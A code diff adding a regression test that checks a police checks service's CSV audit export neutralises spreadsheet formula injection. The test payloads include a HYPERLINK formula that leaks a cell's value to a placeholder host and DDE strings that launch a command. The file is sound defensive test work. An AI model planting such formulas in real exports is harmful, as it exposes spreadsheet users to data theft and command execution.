@@ -5,6 +5,7 @@
  * and export, and officers read only their own; offline check records are stored once.
  */
 import { randomUUID } from 'node:crypto'
+import { parse } from 'csv-parse/sync'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import type { AuditRecord, PersonCheckResponse } from '../../shared/api/checks.ts'
 import { casePeople, matchCases } from '../../shared/matching/cases.ts'
@@ -148,6 +149,23 @@ forEachStore('on-the-spot checks', (kind) => {
       const reads = (await get('/api/audit?officer=2001&limit=500', '2001')).json<{ records: AuditRecord[] }>()
       expect(reads.records.map((r) => r.action)).toContain('export')
       expect(await verifyAuditChain(t.store.db)).toMatchObject({ ok: true })
+    })
+
+    it('exports typed text a spreadsheet would run as a formula as inert text (OWASP CSV injection)', async () => {
+      const formulas = ['=HYPERLINK("http://example.invalid/?"&A1,"Open")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1']
+      for (const text of formulas) {
+        expect((await post('/api/checks/person', '1002', { surname: '=Formula', forenames: 'Test', reason: { code: 'welfare', text } })).statusCode).toBe(200)
+      }
+      const csv = await get('/api/audit/export.csv?officer=1002', '2001')
+      const rows = parse(csv.body, { columns: true }) as Record<string, string>[]
+      const exported = rows.map((r) => r.reason_text)
+      for (const text of formulas) expect(exported).toContain(`'${text}`)
+      // No cell of any record starts as a formula would, whoever typed it.
+      for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
+      expect(rows.some((r) => r.summary.includes('=Formula'))).toBe(true)
+      // The stored text is what the officer typed; only the export is escaped.
+      const stored = (await get('/api/audit?officer=1002&limit=500', '2001')).json<{ records: AuditRecord[] }>().records.map((r) => r.reasonText)
+      for (const text of formulas) expect(stored).toContain(text)
     })
   })
 })
